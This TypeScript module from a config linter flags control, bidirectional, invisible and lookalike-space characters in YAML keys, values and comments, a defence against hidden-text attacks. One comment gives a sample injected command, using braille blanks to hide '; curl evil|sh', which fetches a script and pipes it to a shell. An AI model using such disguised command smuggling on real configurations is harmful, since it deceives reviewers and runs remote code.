// The one control-character check: no key or string value of the config may hold a character
// that ends a line or hides text in any output format (C0 incl. TAB, DEL, C1, U+2028/2029, bidi controls)
// or that shows as nothing to a reviewer (Unicode format characters and other default-ignorables), or as a
// space that is not one (no-break and other Zs spaces, the braille blank); and, in comments too, none that reorders or hides text.
import { isAlias, isCollection, isMap, isPair, isScalar, isSeq, type Node } from 'yaml';
import type { Finding, KeyPath } from '../findings.js';
import { formatKeyPath } from '../findings.js';
import type { ConfigSource } from './source.js';

/**
 * C0 (including TAB, LF, CR), DEL, C1 (including NEL), the Unicode line and paragraph separators,
 * the bidirectional embeddings, overrides and isolates (which reorder what a reviewer sees), and
 * lone surrogates. No value in this config needs any of them; a display name is one line of text.
 */
const LINE_OR_ORDER = String.raw`[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\p{Cs}`;

/**
 * Characters that show as nothing: Unicode format characters (general category Cf: zero-width
 * space, joiners, word joiner, the byte-order mark, soft hyphen, bidi marks, tag characters) and the
 * other default-ignorable code points (Hangul fillers, variation selectors, the combining grapheme
 * joiner). They cannot break a line, but they hide or split text a reviewer reads (UTS #39,
 * Unicode Security Mechanisms; UTS #55, Unicode Source Code Handling).
 */
const INVISIBLE = String.raw`[\p{Cf}\p{Default_Ignorable_Code_Point}]`;

/**
 * Characters that look like a space but are not U+0020: the other space separators (Zs: U+00A0, U+1680,
 * U+2000-U+200A, U+202F, U+205F, U+3000) and the braille pattern blank U+2800. A shell, Postfix and
 * systemd do not split words on them, so `procmail\u2800\u2800 -a x ; curl evil|sh` is one word to a
 * reviewer's eye but not to the program, and a run of them pushes the rest of a line off-screen in a diff.
 * Every config value that reaches a command, a main.cf or unit line, or lint.acknowledgedCommands is
 * ASCII in practice; only a display name may need the no-break spaces of typography (see DISPLAY_SPACES).
 */
const LOOKALIKE_SPACE = String.raw`(?! )\p{Zs}|\u2800`;

/** In a sender's display name (a header phrase, encoded by RFC 2047) U+00A0 and U+202F are ordinary typography ("Dr.\u00a0Who", French "Acme\u202f:"). */
const DISPLAY_SPACES = new Set(['\u00a0', '\u202f']);

/** What a comment may not hold: anything that reorders or hides text (a comment never reaches an output, but a reviewer reads it). */
// C0 and C1 controls too (a tab and a CRLF line end aside): a carriage return, ESC sequence or
// backspace in a comment makes a terminal (cat, git diff) draw over the line that holds it.
const FORBIDDEN_IN_COMMENT = `[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)|${INVISIBLE}`;

/**
 * The expressions, built on first use: V8 parses a Unicode property class (\p{Cf}, \p{Zs} ...) into
 * its character ranges from ICU tables when the expression is created
 * (about 5 % of the instructions of a whole `relayconf lint`), and an all-ASCII config (most of them; see PRINTABLE_ASCII) never needs them.
 */
let unicodePatterns: { invisible: RegExp; lookalikeSpace: RegExp; forbidden: RegExp; forbiddenInComment: RegExp } | undefined;
function patterns(): NonNullable<typeof unicodePatterns> {
  return (unicodePatterns ??= {
    invisible: new RegExp(INVISIBLE, 'u'),
    lookalikeSpace: new RegExp(LOOKALIKE_SPACE, 'u'),
    forbidden: new RegExp(`${LINE_OR_ORDER}|${INVISIBLE}|${LOOKALIKE_SPACE}`, 'gu'),
    forbiddenInComment: new RegExp(FORBIDDEN_IN_COMMENT, 'gu'),
  });
}

/**
 * The one legitimate use: ZWNJ (U+200C) and ZWJ (U+200D) select letter forms inside words of the
 * joining and Brahmic scripts (a Persian or Malayalam name can need them; RFC 5892 Appendix A.1 and
 * A.2 allow them in IDN labels in these contexts). Allowed only between two letters or marks of one
 * such script, where they change a glyph's shape and hide nothing; anywhere else they are refused.
 */
const JOINING_SCRIPT_NAMES = ['Arabic', 'Syriac', 'Nko', 'Mongolian', 'Devanagari', 'Bengali', 'Gurmukhi', 'Gujarati', 'Oriya', 'Tamil', 'Telugu', 'Kannada', 'Malayalam', 'Sinhala', 'Khmer', 'Myanmar'];

// Built on first use: sixteen Unicode script expressions cost lint's start-up more than every config
// without a joiner ever needs.
let joiningScripts: RegExp[] | undefined;

/** Which joining or Brahmic script a letter or mark belongs to (its index), or -1. */
function scriptOf(char: string | undefined): number {
  if (char === undefined) return -1;
  joiningScripts ??= JOINING_SCRIPT_NAMES.map((script) => new RegExp(`^(?=[\\p{L}\\p{M}])\\p{Script=${script}}$`, 'u'));
  return joiningScripts.findIndex((script) => script.test(char));
}

/** ZWNJ or ZWJ inside a word of one joining or Brahmic script (all of them in the BMP: one UTF-16 unit each side). */
function joinsLetters(text: string, index: number, char: string): boolean {
  if (char !== '\u200c' && char !== '\u200d') return false;
  const before = scriptOf(text[index - 1]);
  return before >= 0 && before === scriptOf(text[index + 1]);
}

const NAMES: Record<string, string> = {
  '\t': 'a tab (U+0009)',
  '\n': 'a line feed (U+000A)',
  '\r': 'a carriage return (U+000D)',
  '\u0000': 'a NUL (U+0000)',
  '\u007f': 'a DEL (U+007F)',
  '\u0085': 'a next-line control (U+0085)',
  '\u00ad': 'a soft hyphen (U+00AD)',
  '\u200b': 'a zero-width space (U+200B)',
  '\u200c': 'a zero-width non-joiner (U+200C)',
  '\u200d': 'a zero-width joiner (U+200D)',
  '\u2060': 'a word joiner (U+2060)',
  '\u2028': 'a line separator (U+2028)',
  '\u2029': 'a paragraph separator (U+2029)',
  '\ufeff': 'a zero-width no-break space (U+FEFF, the byte-order mark)',
  '\u00a0': 'a no-break space (U+00A0)',
  '\u2800': 'a braille pattern blank (U+2800)',
};

const codePoint = (char: string) => `U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;

/** How a forbidden character is named in a finding. */
export function describeControl(char: string): string {
  const code = codePoint(char);
  if (NAMES[char]) return NAMES[char];
  if (/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/.test(char)) return `a bidirectional control (${code})`;
  if (/\p{Cs}/u.test(char)) return `an unpaired surrogate (${code})`;
  if (patterns().invisible.test(char)) return `an invisible format character (${code})`;
  if (patterns().lookalikeSpace.test(char)) return `a space that is not U+0020 (${code})`;
  return `a control character (${code})`;
}

/** True for the characters refused because they hide or reorder text, not because they break lines. */
export function hidesText(char: string): boolean {
  return patterns().invisible.test(char) || /[\u202a-\u202e\u2066-\u2069]/.test(char);
}

/**
 * Printable ASCII holds none of the characters above. Why test it first: the Unicode property
 * expressions (\p{Cf}, \p{Default_Ignorable_Code_Point}, \p{Zs}) make V8 build their character
 * sets from ICU when they are created (see patterns()), and an all-ASCII config, which most are,
 * never needs them.
 */
const PRINTABLE_ASCII = /^[\x20-\x7e]*$/;

/** The same for a whole file: printable ASCII, tabs and line feeds (a carriage return takes the full check). */
const PRINTABLE_ASCII_LINES = /^[\x20-\x7e\t\n]*$/;

/** The first forbidden character of a string and its index (UTF-16), or null; a display name may hold typographic no-break spaces. */
export function findControl(text: string, options: { displayName?: boolean } = {}): { char: string; index: number } | null {
  if (PRINTABLE_ASCII.test(text)) return null;
  for (const match of text.matchAll(patterns().forbidden)) {
    if (options.displayName && DISPLAY_SPACES.has(match[0])) continue;
    if (!joinsLetters(text, match.index, match[0])) return { char: match[0], index: match.index };
  }
  return null;
}

/** A sender's display name (domains[].senders[].name): the one value that is prose rather than a name, path or command. */
const isDisplayName = (path: KeyPath) => path.length >= 3 && path[path.length - 1] === 'name' && path[path.length - 3] === 'senders';

const SPACE_WHY =
  'it looks like a space but is not one: a shell, Postfix and systemd do not split words on it, so it can hide text from a reviewer or push it off-screen; use a plain space (U+0020)';
const COMMENT_WHY =
  'it reorders or hides what a reviewer reads (Trojan Source, CVE-2021-42574; UTS #55, Unicode Source Code Handling), even in a comment; remove the character';
const LINE_WHY = 'config strings are one line of printable text, and a line break here would add lines to the files written from it; remove the character';
const HIDDEN_WHY =
  'it shows as nothing or reorders what is shown, and hides text from a reviewer of the config (UTS #39, Unicode Security Mechanisms); remove the character ' +
  '(a zero-width joiner or non-joiner is kept only inside a word of a script that needs it, such as Persian or Malayalam)';

/** Every key and string value under the config's root that holds a forbidden character, positioned at it. */
export function controlCharFindings(source: ConfigSource): Finding[] {
  const root = source.prefix.length > 0 ? source.doc.getIn(source.prefix, true) : source.doc.contents;
  const findings: Finding[] = [];
  /** The source ranges of every key and value checked: the rest of a YAML file is comments and punctuation. */
  const scalars: Array<[number, number]> = [];
  const check = (node: unknown, path: KeyPath, isKey: boolean) => {
    if (!isScalar(node) || !node.range) return;
    scalars.push([node.range[0], node.range[1]]);
    if (typeof node.value !== 'string') return;
    const hit = findControl(node.value, { displayName: !isKey && isDisplayName(path) });
    if (!hit) return;
    const { line, col } = source.lineCounter.linePos(node.range[0]);
    const where = formatKeyPath(path);
    const what = isKey ? `the key ${JSON.stringify(node.value.replace(patterns().forbidden, '?'))} under ${formatKeyPath(path.slice(0, -1))}` : where;
    findings.push({
      ruleId: 'schema',
      severity: 'error',
      message: `${what} contains ${describeControl(hit.char)} at character ${hit.index + 1}: ${patterns().lookalikeSpace.test(hit.char) ? SPACE_WHY : hidesText(hit.char) ? HIDDEN_WHY : LINE_WHY}`,
      file: source.file,
      path,
      line,
      column: col,
    });
  };
  const walk = (node: unknown, path: KeyPath) => {
    if (isAlias(node) || !node) return; // the anchored node is checked where it is defined
    if (isMap(node)) {
      for (const pair of node.items) {
        if (!isPair(pair)) continue;
        const key = isScalar(pair.key) ? String(pair.key.value) : '?';
        // One array for the key and its value: neither changes it (children get their own).
        const at = [...path, key];
        check(pair.key, at, true);
        walk(pair.value, at);
      }
    } else if (isSeq(node)) {
      node.items.forEach((item, index) => walk(item, [...path, index]));
    } else if (isCollection(node)) {
      return;
    } else {
      check(node as Node, path, false);
    }
  };
  walk(root, []);
  if (source.prefix.length === 0) findings.push(...commentFindings(source, scalars));
  return findings;
}

/** Controls, bidi controls and invisible characters outside every key and value (in comments), at the character itself. */
function commentFindings(source: ConfigSource, scalars: Array<[number, number]>): Finding[] {
  const findings: Finding[] = [];
  if (PRINTABLE_ASCII_LINES.test(source.text)) return findings;
  for (const match of source.text.matchAll(patterns().forbiddenInComment)) {
    const at = match.index;
    if ((at === 0 && match[0] === '\ufeff') || joinsLetters(source.text, at, match[0])) continue; // a byte-order mark opens a file legitimately
    if (scalars.some(([start, end]) => at >= start && at < end)) continue; // reported with its value
    const { line, col } = source.lineCounter.linePos(at);
    findings.push({
      ruleId: 'schema',
      severity: 'error',
      message: `line ${line} contains ${describeControl(match[0])} outside any key or value (in a comment): ${COMMENT_WHY}`,
      file: source.file,
      path: [],
      line,
      column: col,
    });
  }
  return findings;
}
